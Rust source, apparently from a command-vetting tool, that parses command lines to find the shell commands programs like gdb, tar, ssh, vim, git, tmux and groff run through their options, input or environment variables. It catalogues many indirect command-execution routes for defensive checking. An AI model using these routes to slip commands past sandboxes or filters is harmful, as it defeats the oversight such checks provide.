//! Shell commands that programs other than shells and interpreters run
//! from their options, their input or the environment: gdb's `shell` and
//! `python` commands, sqlite3's `.shell`/`.system`, vim's `:!`, tar's
//! checkpoint actions and `--to-command`, rsync's `-e`, ssh's
//! `ProxyCommand`, man's pager, and the pager, editor and `LESSOPEN`
//! variables a program runs. Each such value is a command line: it is
//! handed back to the shell parser and judged like any other. A value that
//! runs code Warden does not read (vim's `:python`, `:execute`, gdb's
//! `guile`, sqlite3's `.load`) is reported as unresolved: held.
//!
//! Nothing here runs anything; it only reads the words of the line.

use compass_core::shell_quote::quote_argv;

/// What a program's options, input and environment make it run.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct OptionCommands {
    /// Command lines to judge like any other (a parse error included).
    pub commands: Vec<String>,
    /// A value runs code that is not read here: held.
    pub unresolved: bool,
}

/// Environment variables whose value a program runs as a command line.
/// (`GIT_*` ones are judged by the git checks.) `LESSOPEN`/`LESSCLOSE`
/// start with `|` (or `||`) and hold `%s`.
const COMMAND_VARIABLES: &[&str] = &[
    "LESSOPEN",
    "LESSCLOSE",
    "PAGER",
    "MANPAGER",
    "SYSTEMD_PAGER",
    "BAT_PAGER",
    "EDITOR",
    "VISUAL",
    "SUDO_EDITOR",
    "FCEDIT",
    "BROWSER",
    "PROMPT_COMMAND",
    "SUDO_ASKPASS",
];

/// Whether a variable's name says it names a program or a command line
/// some tool runs (`GIT_ASKPASS`, `SSH_ASKPASS`, `KUBE_EDITOR`,
/// `SYSTEMD_EDITOR`, `GIT_EXTERNAL_DIFF`, `KUBECTL_EXTERNAL_DIFF`,
/// `GIT_PROXY_COMMAND`, `CLOUDSDK_PYTHON`, the compilers `CC`/`CXX`/`LD`,
/// …): its value is judged as a command line when it is more than a bare
/// name on the search path.
fn names_program_variable(name: &str) -> bool {
    const SUFFIXES: &[&str] = &[
        "EDITOR",
        "PAGER",
        "ASKPASS",
        "BROWSER",
        "VISUAL",
        "_COMMAND",
        "_CMD",
        "_PROGRAM",
        "_PROG",
        "_EXTERNAL_DIFF",
        "_PYTHON",
        "_WRAPPER",
        "_RUNNER",
        "_HOOK",
        "_EXEC",
        "_VIEWER",
    ];
    const COMPILERS: &[&str] = &[
        "CC", "CXX", "CPP", "LD", "AR", "AS", "FC", "NM", "STRIP", "RANLIB", "OBJCOPY", "HOSTCC",
    ];
    let upper = name.to_ascii_uppercase();
    SUFFIXES.iter().any(|s| upper.ends_with(s)) || COMPILERS.contains(&name)
}

/// What `program` (a base name, wrappers peeled) runs through its
/// options, its input (`stdin`, when the line spells it out) and the
/// variables set for it or exported by it.
pub fn option_commands(
    program: &str,
    argv: &[String],
    env: &[(String, String)],
    stdin: Option<&str>,
) -> OptionCommands {
    let mut out = OptionCommands::default();
    let exported = matches!(program, "export" | "declare" | "typeset" | "env");
    let assigned = env.iter().map(|(k, v)| (k.clone(), v.clone())).chain(
        argv.iter()
            .skip(1)
            .filter(|_| exported)
            .filter_map(|a| a.split_once('=').map(|(k, v)| (k.into(), v.into()))),
    );
    for (name, value) in assigned {
        if COMMAND_VARIABLES.contains(&name.as_str()) {
            let v = value.trim_start_matches('|').trim();
            if !v.is_empty() {
                out.commands.push(v.to_string());
            }
        } else if names_program_variable(&name) {
            out.commands.extend(command_value(&value));
        }
    }
    let args = argv.get(1..).unwrap_or_default();
    match program {
        "gdb" | "gdb-multiarch" | "cgdb" => {
            for cmd in values(
                args,
                &[
                    "-ex",
                    "--ex",
                    "-eval-command",
                    "--eval-command",
                    "-iex",
                    "--iex",
                    "-init-eval-command",
                    "--init-eval-command",
                ],
            ) {
                gdb_command(&cmd, &mut out);
            }
            // `gdb -batch < cmds` / a here-document: its commands.
            if let Some(text) = stdin {
                text.lines().for_each(|l| gdb_command(l, &mut out));
            }
        }
        "sqlite3" | "sqlite" => {
            let given = values(args, &["-cmd", "--cmd"]).into_iter().chain(
                args.iter()
                    .filter(|a| a.trim_start().starts_with('.'))
                    .cloned(),
            );
            let input = stdin.map(|t| t.lines().map(str::to_string).collect::<Vec<_>>());
            for line in given.chain(input.unwrap_or_default()) {
                sqlite_command(&line, &mut out);
            }
        }
        "vim" | "vi" | "nvim" | "ex" | "view" | "gvim" | "rvim" | "vimdiff" | "nvi" | "elvis" => {
            let mut cmds = values(args, &["-c", "--cmd"]);
            cmds.extend(
                args.iter()
                    .filter_map(|a| a.strip_prefix('+'))
                    .filter(|c| !c.is_empty() && !c.chars().all(|ch| ch.is_ascii_digit()))
                    .map(str::to_string),
            );
            // `ex`/`vim -es` read their commands from the input.
            if let Some(text) = stdin
                && (program == "ex" || args.iter().any(|a| a == "-s" || a == "-es" || a == "-e"))
            {
                cmds.extend(text.lines().map(str::to_string));
            }
            for c in cmds {
                vim_command(&c, &mut out);
            }
        }
        "tar" | "gtar" | "bsdtar" => {
            for v in values(
                args,
                &[
                    "--to-command",
                    "--use-compress-program",
                    "-I",
                    "--rsh-command",
                    "--info-script",
                    "--new-volume-script",
                    "-F",
                ],
            ) {
                out.commands.push(v);
            }
            for v in values(args, &["--checkpoint-action"]) {
                if let Some(c) = v.strip_prefix("exec=") {
                    out.commands.push(c.to_string());
                }
            }
        }
        "rsync" => out
            .commands
            .extend(values(args, &["-e", "--rsh", "--rsync-path"])),
        "ssh" | "scp" | "sftp" | "autossh" | "slogin" => {
            for o in values(args, &["-o"]) {
                let (key, value) = o
                    .split_once(['=', ' '])
                    .map_or((o.as_str(), ""), |(k, v)| (k, v));
                if matches!(
                    key.trim().to_ascii_lowercase().as_str(),
                    "proxycommand" | "localcommand" | "knownhostscommand"
                ) {
                    let v = value.trim();
                    if !v.eq_ignore_ascii_case("none") && !v.is_empty() {
                        out.commands.push(v.to_string());
                    }
                }
            }
            if program != "ssh" {
                // `scp -S PROGRAM`, `sftp -S PROGRAM`: the program it
                // runs in place of ssh.
                out.commands.extend(values(args, &["-S"]));
                if program == "sftp" {
                    // `sftp -D SERVER`: a local sftp server program.
                    out.commands.extend(values(args, &["-D"]));
                }
            }
        }
        "man" => out
            .commands
            .extend(values(args, &["-P", "--pager", "-H", "--html"])),
        // `watch [opts] CMD…`: its words, joined, are run by `sh -c`.
        "watch" => {
            let mut i = 0;
            while let Some(a) = args.get(i) {
                if !a.starts_with('-') {
                    break;
                }
                i += if matches!(a.as_str(), "-n" | "--interval") {
                    2
                } else {
                    1
                };
            }
            if let Some(rest) = args.get(i..).filter(|r| !r.is_empty()) {
                out.commands.push(rest.join(" "));
            }
        }
        // `su -c CMD`, `runuser -c CMD`, `script -c CMD`, `flock F -c CMD`.
        "su" | "runuser" | "script" | "flock" | "sg" => {
            out.commands
                .extend(values(args, &["-c", "--command", "--session-command"]));
            if program == "flock" && values(args, &["-c", "--command"]).is_empty() {
                // `flock [opts] FILE CMD ARGS…`.
                let mut pos = Vec::new();
                let mut i = 0;
                while let Some(a) = args.get(i) {
                    if a.starts_with('-') {
                        i += if matches!(
                            a.as_str(),
                            "-w" | "--timeout" | "-E" | "--conflict-exit-code"
                        ) {
                            2
                        } else {
                            1
                        };
                        continue;
                    }
                    pos.push(a.as_str());
                    i += 1;
                }
                if pos.len() > 1 {
                    out.commands.push(quote_argv(&pos[1..]));
                }
            }
        }
        // `parallel [OPTS] TEMPLATE ::: ARGS`: the template (every word
        // after parallel's own options) is the command, each argument
        // put in for `{}` or appended; with no template each argument is
        // one; `::::` reads them from files.
        "parallel" => parallel(args, &mut out),
        // Package and task runners run the command they are given (the
        // package itself is judged by the command rules): `npx -c STR`,
        // `npm exec -- CMD`, `pnpm exec CMD`, `bundle exec CMD`, …
        "npx" | "pnpx" | "bunx" => runner(args, &mut out),
        "npm" | "pnpm" | "yarn" | "bun" => match args.first().map(String::as_str) {
            Some("exec" | "x" | "dlx") => runner(&args[1..], &mut out),
            // `yarn node ARGS` runs node.
            Some("node") if program == "yarn" => out.commands.push(quote_argv(args)),
            // `npm pkg set scripts.NAME=CMD`, `npm set-script NAME CMD`:
            // a package script is a command line the tooling runs.
            Some("pkg") if args.get(1).is_some_and(|a| a == "set") => {
                for a in &args[2..] {
                    if let Some((key, value)) = a.split_once('=')
                        && key.starts_with("scripts.")
                    {
                        out.commands.push(value.to_string());
                    }
                }
            }
            Some("set-script") => out.commands.extend(args.get(2).cloned()),
            _ => {}
        },
        "sed" | "gsed" => sed(args, stdin, &mut out),
        // ed reads its commands from the input: `!CMD`, `r !CMD`,
        // `w !CMD`, `e !CMD` run CMD.
        "ed" | "red" => {
            for line in stdin.unwrap_or_default().lines() {
                // An address first (`1,$w !cmd`).
                let l = line.trim_start().trim_start_matches(|c: char| {
                    c.is_ascii_digit() || matches!(c, ',' | '$' | '.' | ';' | '+' | '-')
                });
                let l = l
                    .strip_prefix(|c: char| matches!(c, 'r' | 'w' | 'e' | 'E' | 'W'))
                    .map_or(l, str::trim_start);
                if let Some(cmd) = l.strip_prefix('!') {
                    out.commands.push(cmd.to_string());
                }
            }
        }
        // `zip -T -TT CMD`: the command that tests the archive.
        "zip" => out
            .commands
            .extend(values(args, &["-TT", "--unzip-command"])),
        // `gcc -wrapper PROG,ARG,…`: every compiler pass runs under PROG.
        "gcc" | "g++" | "cc" | "c++" | "clang" | "clang++" => {
            for v in values(args, &["-wrapper"]) {
                let words: Vec<&str> = v.split(',').collect();
                out.commands.push(quote_argv(&words));
            }
        }
        "git" => git_commands(args, &mut out),
        // tmux and screen start their command detached, in a new session
        // or window; `run-shell` and `display-popup` run a shell string.
        "tmux" => tmux(args, &mut out),
        "screen" => screen(args, &mut out),
        // `at`/`batch` read the shell commands they schedule from their
        // input; a file (`-f FILE`) or an input not spelled out is code
        // not on the line.
        "at" | "batch" => {
            let listing = args
                .iter()
                .any(|a| matches!(a.as_str(), "-l" | "-r" | "-d" | "-c" | "-V" | "--help"));
            if !listing {
                match stdin {
                    Some(text) if values(args, &["-f"]).is_empty() => {
                        out.commands.push(text.to_string());
                    }
                    _ => out.unresolved = true,
                }
            }
        }
        // `entr -s STRING`, else `entr [opts] CMD ARGS…`.
        "entr" => {
            let s = values(args, &["-s"]);
            if s.is_empty() {
                let rest: Vec<&String> = args.iter().skip_while(|a| a.starts_with('-')).collect();
                if !rest.is_empty() {
                    out.commands.push(quote_argv(&rest));
                }
            } else {
                out.commands.extend(s);
            }
        }
        // `nix-shell --run STR` / `--command STR`; `nix develop -c CMD…`,
        // `nix shell PKGS -c CMD…`.
        "nix-shell" => out.commands.extend(values(args, &["--run", "--command"])),
        "nix" => {
            if let Some(c) = args.iter().position(|a| a == "-c" || a == "--command") {
                let rest = &args[c + 1..];
                if !rest.is_empty() {
                    out.commands.push(quote_argv(rest));
                }
            }
        }
        // `ansible HOSTS -m shell -a STR`: the shell-running modules'
        // argument is a command line; `script` runs a local file.
        "ansible" => {
            let module = values(args, &["-m", "--module-name"]);
            let module = module
                .last()
                .map(|m| m.rsplit('.').next().unwrap_or(m).to_string());
            match module.as_deref() {
                Some("shell" | "command" | "raw") => {
                    out.commands.extend(values(args, &["-a", "--args"]));
                }
                Some("script" | "expect" | "win_shell" | "win_command") => out.unresolved = true,
                _ => {}
            }
        }
        // `cargo --config 'KEY = VALUE'`: a runner, wrapper, compiler or
        // linker it sets is a program cargo runs.
        "cargo" => {
            for kv in values(args, &["--config"]) {
                cargo_config(&kv, &mut out);
            }
        }
        "bundle" | "bundler" if args.first().is_some_and(|a| a == "exec") => {
            let rest: Vec<&String> = args[1..].iter().skip_while(|a| *a == "--").collect();
            if !rest.is_empty() {
                out.commands.push(quote_argv(&rest));
            }
        }
        // `strace -o '|CMD'` (or `!CMD`): its trace is piped into CMD.
        "strace" => {
            for v in values(args, &["-o", "--output"]) {
                if let Some(c) = v.strip_prefix(['|', '!']) {
                    out.commands.push(c.to_string());
                }
            }
        }
        // `capsh … -- ARGS`: ARGS are handed to /bin/bash (`-- -c CMD`).
        "capsh" => {
            if let Some(k) = args.iter().position(|a| a == "--") {
                let mut argv = vec!["bash"];
                argv.extend(args[k + 1..].iter().map(String::as_str));
                out.commands.push(quote_argv(&argv));
            }
            out.commands.extend(values(args, &["--shell"]));
        }
        // `start-stop-daemon --start --exec PROG -- ARGS`.
        "start-stop-daemon" => {
            let prog = values(args, &["--startas", "-a"])
                .into_iter()
                .chain(values(args, &["--exec", "-x"]))
                .next();
            if let Some(prog) = prog {
                let mut argv = vec![prog.as_str()];
                if let Some(k) = args.iter().position(|a| a == "--") {
                    argv.extend(args[k + 1..].iter().map(String::as_str));
                }
                out.commands.push(quote_argv(&argv));
            }
        }
        // `gpg-connect-agent --exec PROG ARGS… [COMMANDS]`: the server it
        // starts is the first word after its options.
        "gpg-connect-agent" if args.iter().any(|a| a == "--exec" || a == "-E") => {
            if let Some(p) = args.iter().find(|a| !a.starts_with('-')) {
                out.commands.push(p.clone());
            }
        }
        // `pdb3 -c STATEMENT script.py`: Python run before the script.
        "pdb" | "pdb3" | "pdb3.11" | "pdb3.12" | "pdb3.13" => {
            for v in values(args, &["-c", "--command"]) {
                out.commands
                    .push(quote_argv(&["python3", "-c", v.as_str()]));
            }
        }
        // `make SHELL=PROG`: every recipe runs through PROG.
        "make" | "gmake" | "remake" | "bmake" => {
            for a in args {
                if let Some(v) = a.strip_prefix("SHELL=") {
                    out.commands.extend(command_value(v));
                }
            }
        }
        // `podman --runtime PATH`, `--conmon PATH`: the program that runs
        // every container.
        "podman" | "docker" | "buildah" => out
            .commands
            .extend(values(args, &["--runtime", "--conmon"])),
        // `gpgtar --gpg PROGRAM`: the gpg it runs.
        "gpgtar" => out.commands.extend(values(args, &["--gpg"])),
        // A login shell set to a program (run at every login).
        "chsh" | "usermod" | "useradd" => out.commands.extend(values(args, &["-s", "--shell"])),
        // `update-alternatives --install LINK NAME PATH PRIO` and `--set
        // NAME PATH`: PATH is what the system's LINK runs from then on.
        "update-alternatives" => {
            if let Some(k) = args.iter().position(|a| a == "--install") {
                out.commands.extend(args.get(k + 3).cloned());
            }
            if let Some(k) = args.iter().position(|a| a == "--set") {
                out.commands.extend(args.get(k + 2).cloned());
            }
        }
        // `prove -e INTERPRETER`: the program that runs each test.
        "prove" => out.commands.extend(values(args, &["-e", "--exec"])),
        // `mvn exec:exec -Dexec.executable=PROG -Dexec.args=ARGS`.
        "mvn" | "mvnw" | "mvnDebug" => {
            let defs = values(args, &["-D", "--define"]);
            let def = |key: &str| {
                defs.iter()
                    .find_map(|d| d.strip_prefix(key).and_then(|v| v.strip_prefix('=')))
            };
            if let Some(prog) = def("exec.executable") {
                out.commands
                    .push(format!("{prog} {}", def("exec.args").unwrap_or_default()));
            }
        }
        // groff and its preprocessors in unsafe mode (`-U`) run shell
        // commands their input asks for (`.sy`, `.pso`; pic's `sh`): read
        // from the input when the line spells it out, held otherwise.
        "groff" | "nroff" | "troff" | "pic" | "gpic" | "eqn" | "geqn" | "tbl" | "gtbl"
            if args.iter().any(|a| {
                a == "-U" || (a.starts_with('-') && !a.starts_with("--") && a.contains('U'))
            }) =>
        {
            match stdin {
                Some(text) if args.iter().all(|a| a.starts_with('-') || a == "-") => {
                    // printf's `\n` escapes, when the text came through it.
                    let text = text.replace("\\n", "\n");
                    for line in text.lines() {
                        let l = line.trim_start();
                        if let Some(c) = l.strip_prefix(".sy ").or_else(|| l.strip_prefix(".pso "))
                        {
                            out.commands.push(c.to_string());
                        } else if let Some(c) = l.strip_prefix("sh ") {
                            let c = c.trim();
                            out.commands.push(
                                c.trim_start_matches(['"', '{'])
                                    .trim_end_matches(['"', '}'])
                                    .to_string(),
                            );
                        }
                    }
                }
                _ => out.unresolved = true,
            }
        }
        _ => {}
    }
    named_commands(program, args, &mut out);
    if let Some(c) = embedded_command(program, args) {
        out.commands.push(c);
    }
    // The generic readings can find what a program's own reading found.
    let mut seen = std::collections::HashSet::new();
    out.commands.retain(|c| seen.insert(c.clone()));
    out
}

/// Words in an option's or a setting's name that say its value is a
/// command or a program the tool runs (`--compress-program`, `--filter`,
/// `--use-askpass`, `--customize-hook`, `--pre-invoke`, `--photo-viewer`,
/// `--renderer-cmd-prefix`, `diff.external`, `mergetool.x.cmd`, …).
const PROGRAM_WORDS: &[&str] = &[
    "command",
    "cmd",
    "program",
    "prog",
    "exec",
    "executable",
    "hook",
    "wrapper",
    "askpass",
    "editor",
    "pager",
    "viewer",
    "browser",
    "filter",
    "runner",
    "launcher",
    "invoke",
    "httpd",
    "textconv",
    "smudge",
    "external",
    "gitproxy",
];

/// Whether an option's or a setting's name (`--diff-program`,
/// `APT::Update::Pre-Invoke::`, `uploadpack.packObjectsHook`) says its
/// value is a command line or a program: one of its parts is such a word
/// or ends in `hook`, `cmd`, `command`, `program`, `askpass`, `editor` or
/// `pager` (camel case glued: `sshCommand`, `packObjectsHook`).
pub fn names_program(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    lower
        .split(['-', '_', '.', ':'])
        .filter(|seg| !seg.is_empty())
        .any(|seg| {
            PROGRAM_WORDS.contains(&seg)
                || [
                    "hook", "cmd", "command", "program", "askpass", "editor", "pager",
                ]
                .iter()
                .any(|w| seg.ends_with(w))
        })
}

/// A value worth judging as a command line: more than a bare program name
/// looked up on the search path (`--filter=blob:none`, `--pager=less`), and
/// no URL (`--browser-url=https://…` names a page, not a program).
fn command_value(value: &str) -> Option<String> {
    let mut v = value.trim().trim_start_matches(['|', '!']).trim();
    // A value quoted as a whole (`'…'`, `"…"`) is its inside.
    for q in ['"', '\''] {
        if v.len() >= 2 && v.starts_with(q) && v.ends_with(q) {
            v = &v[1..v.len() - 1];
        }
    }
    if v.is_empty()
        || v.split_whitespace()
            .next()
            .is_some_and(|w| w.contains("://"))
    {
        return None;
    }
    v.contains([' ', '/', '$', '`', '|', ';', '&'])
        .then(|| v.to_string())
}

/// Options of any program whose name says they take a command or a
/// program (`--NAME=VALUE`, `--NAME VALUE`), and `KEY=VALUE` settings
/// given through `-o`, `-c`, `-D`, `--config`, `--set` or as a word of
/// their own whose key says so (`-o APT::Update::Pre-Invoke::=CMD`,
/// `-c mergetool.x.cmd=CMD`): each value is a command line, judged like
/// any other. Programs that only print their words are left out.
fn named_commands(program: &str, args: &[String], out: &mut OptionCommands) {
    if matches!(program, "echo" | "printf") {
        return;
    }
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a == "--" {
            break;
        }
        if let Some(long) = a.strip_prefix("--") {
            match long.split_once('=') {
                Some((name, value)) if names_program(name) => {
                    out.commands.extend(command_value(value));
                }
                None if names_program(long) => {
                    if let Some(v) = args.get(i + 1).filter(|v| !v.starts_with('-')) {
                        out.commands.extend(command_value(v));
                    }
                }
                _ => {}
            }
        }
        // Options handed on as one string (`pg_ctlcluster … -o "-c
        // archive_command=CMD"`): read as the option words they are.
        if matches!(a.as_str(), "-o" | "-O" | "--options" | "--opts")
            && let Some(v) = args.get(i + 1)
            && v.trim_start().starts_with('-')
            && v.contains(char::is_whitespace)
        {
            out.commands.push(format!("option-string {v}"));
        }
        // A setting: `KEY=VALUE` as an option's value or a word.
        let setting = if matches!(
            a.as_str(),
            "-o" | "-c" | "-D" | "--config" | "--set" | "--option" | "--define"
        ) {
            args.get(i + 1).map(String::as_str)
        } else if let Some(rest) = a.strip_prefix("-D").or_else(|| a.strip_prefix("-o")) {
            Some(rest)
        } else if !a.starts_with('-') {
            Some(a.as_str())
        } else {
            None
        };
        if let Some((key, value)) = setting.and_then(|s| s.split_once('='))
            && !key.is_empty()
            && !key.contains(char::is_whitespace)
            && names_program(key)
        {
            out.commands.extend(command_value(value));
        }
        i += 1;
    }
}

/// A shell or interpreter given code among another program's arguments
/// (`setpriv … sh -c CMD`, `ssh-agent sh -c CMD`, `ip netns exec NS sh -c
/// CMD`, `x-terminal-emulator -e python3 -c CODE`, `msgexec -i f.po sh -c
/// CMD`): whatever the program is, it hands those words on to be run, so
/// they are judged as the command they are. A program that prints its
/// words (`echo`), or whose own reading of them is modelled (`find`,
/// `xargs`), is left out; a `--` right after the shell is dropped
/// (`start-stop-daemon --exec /bin/sh -- -c CMD`).
fn embedded_command(program: &str, args: &[String]) -> Option<String> {
    if matches!(
        program,
        "echo" | "printf" | "find" | "xargs" | "parallel" | "sudo" | "doas" | "env"
    ) || SHELL_NAMES.contains(&program)
        || crate::code_strings::language_of(program).is_some()
    {
        return None;
    }
    // A container's or a pod's command runs inside it: what the container
    // is given of the host (mounts, sockets, privileges) is judged by the
    // container checks. `podman unshare`/`buildah unshare` run on the
    // host, in a user namespace, and are read.
    let unshare = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .is_some_and(|a| a == "unshare");
    if matches!(
        program,
        "docker" | "podman" | "nerdctl" | "buildah" | "kubectl" | "oc" | "crictl" | "ctr"
    ) && !unshare
    {
        return None;
    }
    for k in 0..args.len() {
        let base = args[k].rsplit('/').next().unwrap_or(&args[k]);
        let mut rest: Vec<&str> = args[k + 1..].iter().map(String::as_str).collect();
        if rest.first() == Some(&"--") {
            rest.remove(0);
        }
        let shell_code = SHELL_NAMES.contains(&base)
            && rest.first().is_some_and(|a| {
                *a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
            });
        let mut argv = vec![base];
        argv.extend(rest.iter().copied());
        let argv_owned: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
        let interp_code = crate::code_strings::language_of(base).is_some()
            && crate::code_strings::code_word(base, &argv_owned).is_some();
        if shell_code || interp_code {
            return Some(quote_argv(&argv));
        }
    }
    None
}

const SHELL_NAMES: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "mksh", "oksh", "loksh", "pdksh", "yash",
    "posh", "rbash", "tcsh", "csh",
];

/// Git subcommands that run a command from their arguments: `rebase
/// --exec CMD` (`-x`), `bisect run CMD…`, `difftool`/`mergetool -x CMD`
/// (`--extcmd`), `submodule foreach CMD…`, `filter-branch`'s filters.
fn git_commands(args: &[String], out: &mut OptionCommands) {
    // git's own options before the subcommand (`-c k=v`, `-C dir`).
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if !a.starts_with('-') {
            break;
        }
        i += if matches!(
            a.as_str(),
            "-c" | "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--exec-path"
        ) {
            2
        } else {
            1
        };
    }
    let Some(sub) = args.get(i) else { return };
    let rest = &args[i + 1..];
    match sub.as_str() {
        "rebase" => out.commands.extend(values(rest, &["--exec", "-x"])),
        // The program run as the other side of a transfer (on a local or
        // file:// remote, here): `--upload-pack`/`-u`, `--receive-pack`,
        // `archive --exec`.
        "fetch" | "pull" | "clone" | "ls-remote" | "fetch-pack" => {
            out.commands.extend(values(rest, &["--upload-pack", "-u"]))
        }
        "push" | "send-pack" => out
            .commands
            .extend(values(rest, &["--receive-pack", "--exec"])),
        "archive" => out.commands.extend(values(rest, &["--exec"])),
        // `grep -O[PAGER]`: the matching files are opened in PAGER.
        "grep" => {
            for v in values(rest, &["-O", "--open-files-in-pager"]) {
                out.commands.extend(command_value(&v));
            }
        }
        // `send-email --smtp-server=/path`: a path is a sendmail-like
        // program git runs.
        "send-email" => {
            for v in values(rest, &["--smtp-server"]) {
                if v.starts_with(['/', '.', '~', '$']) {
                    out.commands.push(v);
                }
            }
        }
        "difftool" | "mergetool" => out.commands.extend(values(rest, &["--extcmd", "-x"])),
        "bisect" if rest.first().is_some_and(|a| a == "run") && rest.len() > 1 => {
            out.commands.push(quote_argv(&rest[1..]));
        }
        "submodule" => {
            if let Some(f) = rest.iter().position(|a| a == "foreach") {
                let cmd: Vec<&String> = rest[f + 1..]
                    .iter()
                    .skip_while(|a| a.starts_with("--"))
                    .collect();
                if !cmd.is_empty() {
                    // foreach runs its words through a shell.
                    out.commands
                        .push(cmd.iter().map(|s| s.as_str()).collect::<Vec<_>>().join(" "));
                }
            }
        }
        "filter-branch" => out.commands.extend(values(
            rest,
            &[
                "--env-filter",
                "--tree-filter",
                "--index-filter",
                "--parent-filter",
                "--msg-filter",
                "--commit-filter",
                "--tag-name-filter",
                "--setup",
            ],
        )),
        _ => {}
    }
}

/// tmux commands that take a shell command, and the options of theirs
/// that take a value.
fn tmux(args: &[String], out: &mut OptionCommands) {
    // Options of those commands that take a value (a bundle ending in
    // one takes the next word too).
    const VALUED: &str = "sntcxyeFlfw";
    // tmux's own options first (`-L sock`, `-f conf`, `-S path`).
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if !a.starts_with('-') {
            break;
        }
        // `tmux -c SHELL-COMMAND`: run by the default shell, like `sh -c`.
        if a == "-c" {
            out.commands.extend(args.get(i + 1).cloned());
            i += 2;
            continue;
        }
        i += if matches!(a.as_str(), "-L" | "-f" | "-S" | "-T") {
            2
        } else {
            1
        };
    }
    let Some(sub) = args.get(i) else { return };
    let runs = matches!(
        sub.as_str(),
        "new-session"
            | "new"
            | "new-window"
            | "neww"
            | "split-window"
            | "splitw"
            | "respawn-pane"
            | "respawnp"
            | "respawn-window"
            | "respawnw"
            | "run-shell"
            | "run"
            | "display-popup"
            | "popup"
            | "pipe-pane"
            | "pipep"
    );
    if !runs {
        // `tmux send-keys -t T 'CMD' Enter` types a command into a shell.
        if matches!(sub.as_str(), "send-keys" | "send") {
            let mut keys = Vec::new();
            let mut j = i + 1;
            while let Some(a) = args.get(j) {
                if a.starts_with('-') && keys.is_empty() {
                    j += if matches!(a.as_str(), "-t" | "-N") {
                        2
                    } else {
                        1
                    };
                    continue;
                }
                if !matches!(a.as_str(), "Enter" | "C-m" | "KPEnter" | "C-j") {
                    keys.push(a.as_str());
                }
                j += 1;
            }
            if !keys.is_empty() {
                out.commands.push(keys.join(" "));
            }
        }
        return;
    }
    let mut j = i + 1;
    while let Some(a) = args.get(j) {
        if !a.starts_with('-') || a == "--" {
            if a == "--" {
                j += 1;
            }
            break;
        }
        let last = a.chars().last().unwrap_or('-');
        j += if !a.starts_with("--") && VALUED.contains(last) {
            2
        } else {
            1
        };
    }
    let rest = &args[j.min(args.len())..];
    if !rest.is_empty() {
        out.commands.push(
            rest.iter()
                .map(String::as_str)
                .collect::<Vec<_>>()
                .join(" "),
        );
    }
}

/// `screen [opts] [CMD ARGS…]`: a command after screen's options runs in
/// the new window; `-X`/`-p … -X stuff` type into a session.
fn screen(args: &[String], out: &mut OptionCommands) {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if !a.starts_with('-') {
            break;
        }
        if a.contains('X') {
            out.unresolved = true;
            return;
        }
        // Bundles such as `-dmS NAME`: a last letter that takes a value.
        let last = a.chars().last().unwrap_or('-');
        i += if matches!(
            last,
            'S' | 'c' | 'e' | 'h' | 'p' | 'T' | 't' | 'R' | 'r' | 's'
        ) && a.len() >= 2
        {
            2
        } else {
            1
        };
    }
    let rest = &args[i.min(args.len())..];
    if !rest.is_empty() {
        out.commands.push(quote_argv(rest));
    }
}

/// Cargo configuration keys whose value is a program cargo runs.
const CARGO_PROGRAM_KEYS: &[&str] = &[
    "runner",
    "rustc-wrapper",
    "rustc-workspace-wrapper",
    "rustc",
    "rustdoc",
    "linker",
];

/// One `--config` value: a file path, or `KEY = VALUE` in TOML.
fn cargo_config(kv: &str, out: &mut OptionCommands) {
    let Some((key, value)) = kv.split_once('=') else {
        return; // a file of configuration: the project's own
    };
    let last = key
        .trim()
        .rsplit('.')
        .next()
        .unwrap_or_default()
        .trim_matches(['"', '\'']);
    if !CARGO_PROGRAM_KEYS.contains(&last) {
        return;
    }
    match toml::from_str::<toml::Value>(&format!("v = {}", value.trim())) {
        Ok(toml::Value::Table(t)) => match t.get("v") {
            Some(toml::Value::String(s)) => out.commands.push(s.clone()),
            Some(toml::Value::Array(a)) => {
                let words: Option<Vec<&str>> = a.iter().map(toml::Value::as_str).collect();
                match words {
                    Some(w) if !w.is_empty() => out.commands.push(quote_argv(&w)),
                    _ => out.unresolved = true,
                }
            }
            _ => out.unresolved = true,
        },
        _ => out.unresolved = true,
    }
}

/// GNU parallel's options that take a value.
const PARALLEL_VALUE_OPTIONS: &[&str] = &[
    "-j",
    "--jobs",
    "-P",
    "--max-procs",
    "-S",
    "--sshlogin",
    "-a",
    "--arg-file",
    "-N",
    "-n",
    "--max-args",
    "-L",
    "-l",
    "--max-lines",
    "-d",
    "--delimiter",
    "-I",
    "--joblog",
    "--results",
    "--tmpdir",
    "--workdir",
    "--wd",
    "--timeout",
    "--retries",
    "--env",
    "--colsep",
    "-C",
    "--load",
    "--memfree",
    "--halt",
    "--delay",
    "--tag-string",
    "-E",
    "--shebang-wrap",
];

fn parallel(args: &[String], out: &mut OptionCommands) {
    let sep = args.iter().position(|a| a.starts_with(":::"));
    let head = &args[..sep.unwrap_or(args.len())];
    let mut i = 0;
    while let Some(a) = head.get(i) {
        if a == "--" {
            i += 1;
            break;
        }
        if !a.starts_with('-') {
            break;
        }
        i += if PARALLEL_VALUE_OPTIONS.contains(&a.as_str()) {
            2
        } else {
            1
        };
    }
    let template = head.get(i..).unwrap_or_default();
    let given: Vec<&String> = match sep {
        Some(s) if args[s] == ":::" => args[s + 1..]
            .iter()
            .take_while(|a| !a.starts_with(":::"))
            .collect(),
        _ => Vec::new(),
    };
    let reads_unseen = sep.is_some_and(|s| args[s] != ":::") || sep.is_none();
    if template.is_empty() {
        if reads_unseen {
            // Commands read from files or the input: not spelled out.
            out.unresolved = true;
        }
        out.commands.extend(given.into_iter().cloned());
        return;
    }
    // parallel joins the template's words into a command line and
    // quotes each argument it puts in.
    let line = template.join(" ");
    if given.is_empty() {
        out.commands.push(line);
        return;
    }
    for a in given.into_iter().take(8) {
        let quoted = quote_argv(std::slice::from_ref(a));
        out.commands.push(if line.contains("{}") {
            line.replace("{}", &quoted)
        } else {
            format!("{line} {quoted}")
        });
    }
}

/// A package runner's arguments (after `exec`/`dlx` for npm-style
/// managers): `-c STRING`/`--call STRING` is a shell string, otherwise
